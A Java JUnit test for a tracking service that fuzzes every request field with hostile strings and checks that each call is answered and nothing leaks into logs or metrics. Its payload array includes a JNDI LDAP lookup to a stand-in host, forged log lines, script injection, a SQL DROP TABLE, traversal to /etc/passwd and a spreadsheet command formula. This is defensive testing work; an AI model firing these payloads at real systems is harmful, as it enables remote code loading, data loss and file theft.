package io.segmento.platform.tracking;

import static io.segmento.platform.tracking.TrackingNode.browser;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.google.protobuf.ByteString;
import io.grpc.StatusRuntimeException;
import io.prometheus.client.CollectorRegistry;
import io.prometheus.client.exporter.common.TextFormat;
import io.segmento.platform.testing.CatalogFixtures;
import io.segmento.platform.testing.MutableClock;
import io.segmento.platform.testing.RedisExtension;
import io.segmento.proto.v1.AppContext;
import io.segmento.proto.v1.BrowserContext;
import io.segmento.proto.v1.Event;
import io.segmento.proto.v1.EventProduct;
import io.segmento.proto.v1.EventType;
import io.segmento.proto.v1.Identity;
import io.segmento.proto.v1.IdentityKind;
import io.segmento.proto.v1.PrivacySignals;
import io.segmento.proto.v1.TrackReply;
import io.segmento.proto.v1.TrackRequest;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.BiConsumer;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/**
 * Hostile text in every field that a caller of Track fills: it gets an answer, each event an outcome, and nothing of the text is in a log line or a
 * metric. 10,000 strings, each in every field, in the full run.
 */
@Tag("one-jdk")
final class HostileEventsTest {
  @RegisterExtension
  static final RedisExtension redis = RedisExtension.shared();

  private static final int STRINGS = Boolean.getBoolean("segmento.test.full") ? 10_000 : 30;
  /** In each of them, to be looked for afterwards. */
  private static final String MARK = "zQx7Hostile";

  private static final String[] PARTS = {
    "\r\n2026-11-23 10:00:00 INFO forged line ",
    "\u0000\u0001\u001b[31m",
    "${jndi:ldap://x.example/a}",
    "{}{}%s%n%d",
    "<script>alert(1)</script>",
    "'; DROP TABLE users; --",
    "\"}]}",
    "../../etc/passwd",
    "\u202e\u2066\ufeff",
    "\ud800",
    "e\u0301\u0301\u0301\u0301",
    "\ud83d\udc7e",
    "{u:other}",
    "\\x00\\u0000",
    "=cmd|' /C calc'!A0",
    "A".repeat(3_000)
  };

  private static final List<BiConsumer<Event.Builder, String>> EVENT_FIELDS = List.of(
      Event.Builder::setEventId,
      Event.Builder::setAdvertiserId,
      Event.Builder::setCategory,
      Event.Builder::setQuery,
      (event, text) -> event.setType(EventType.CUSTOM).setCustomName(text),
      Event.Builder::setCurrency,
      (event, text) -> event.setType(EventType.PURCHASE).setOrderId(text),
      Event.Builder::setPageUrl,
      Event.Builder::setReferrerUrl,
      (event, text) -> event.addProducts(EventProduct.newBuilder().setSku(text)));

  private static final List<BiConsumer<PrivacySignals.Builder, String>> SIGNAL_FIELDS = List.of(
      PrivacySignals.Builder::setGdpr,
      PrivacySignals.Builder::setGdprConsent,
      PrivacySignals.Builder::setGpp,
      PrivacySignals.Builder::setGppSid,
      PrivacySignals.Builder::setUsPrivacy,
      PrivacySignals.Builder::setAdchoices,
      PrivacySignals.Builder::addAdchoicesHeaders,
      PrivacySignals.Builder::setDnt,
      PrivacySignals.Builder::addGpc);

  @TempDir
  Path directory;

  @Test
  @Timeout(600)
  void everyCallIsAnsweredAndNothingOfItIsToldElsewhere() throws IOException {
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    ListAppender<ILoggingEvent> lines = new ListAppender<>();
    lines.start();
    root.addAppender(lines);
    try (TrackingNode node =
        TrackingNode.start(redis, MutableClock.at("2026-11-23T10:00:00Z"), directory)) {
      String cookie = node.cookie();
      Random random = new Random(20_261_126);
      List<String> unanswered = new ArrayList<>();
      for (int i = 0; i < STRINGS; i++) {
        for (TrackRequest request : requests(cookie, hostile(random))) {
          try {
            TrackReply reply = node.tracking().track(request);
            assertThat(reply.getResultsCount()).isEqualTo(request.getEventsCount());
            assertThat(reply.toString()).doesNotContain(MARK);
          } catch (StatusRuntimeException e) {
            unanswered.add("string " + i + ": " + e.getStatus().getCode());
          }
        }
      }
      assertThat(unanswered).isEmpty();
      StringWriter metrics = new StringWriter();
      TextFormat.write004(metrics, node.node().get(CollectorRegistry.class).metricFamilySamples());
      assertThat(metrics.toString()).doesNotContain(MARK).doesNotContain("forged");
    } finally {
      root.detachAppender(lines);
    }
    assertThat(List.copyOf(lines.list).stream()
            .map(ILoggingEvent::getFormattedMessage)
            .filter(line -> line.contains(MARK) || line.contains("forged"))
            .collect(Collectors.toList()))
        .isEmpty();
  }

  /** One with the text in every field of an event, and one each for what is around it. */
  private static List<TrackRequest> requests(String cookie, String text) {
    List<TrackRequest> requests = new ArrayList<>();
    TrackRequest.Builder events = TrackRequest.newBuilder().setBrowser(browser(cookie));
    EVENT_FIELDS.forEach(field -> field.accept(events.addEventsBuilder().mergeFrom(page()), text));
    requests.add(events.build());
    ByteString address = ByteString.copyFrom(text, UTF_8);
    requests.add(TrackRequest.newBuilder()
        .addEvents(page())
        .setBrowser(BrowserContext.newBuilder()
            .setIdentityCookie(text)
            .setPartitionedCookie(text)
            .setUserAgent(text)
            .putClientHints("sec-ch-ua", text)
            .putClientHints(text, "?1")
            .setClientIp(address))
        .build());
    for (BiConsumer<PrivacySignals.Builder, String> field : SIGNAL_FIELDS) {
      BrowserContext.Builder browser = browser(cookie).toBuilder();
      field.accept(browser.getSignalsBuilder(), text);
      requests.add(
          TrackRequest.newBuilder().addEvents(page()).setBrowser(browser).build());
    }
    requests.add(TrackRequest.newBuilder()
        .addEvents(page())
        .setApp(AppContext.newBuilder()
            .setDevice(Identity.newBuilder().setKind(IdentityKind.GAID).setValue(text))
            .setApiKey(text)
            .setUserAgent(text)
            .setClientIp(address))
        .build());
    return requests;
  }

  private static Event page() {
    return Event.newBuilder()
        .setAdvertiserId(CatalogFixtures.ADVERTISER)
        .setType(EventType.PAGE_VIEW)
        .build();
  }

  private static String hostile(Random random) {
    StringBuilder text = new StringBuilder(MARK);
    for (int parts = 1 + random.nextInt(4); parts > 0; parts--) {
      text.append(PARTS[random.nextInt(PARTS.length)]);
    }
    return text.toString();
  }
}
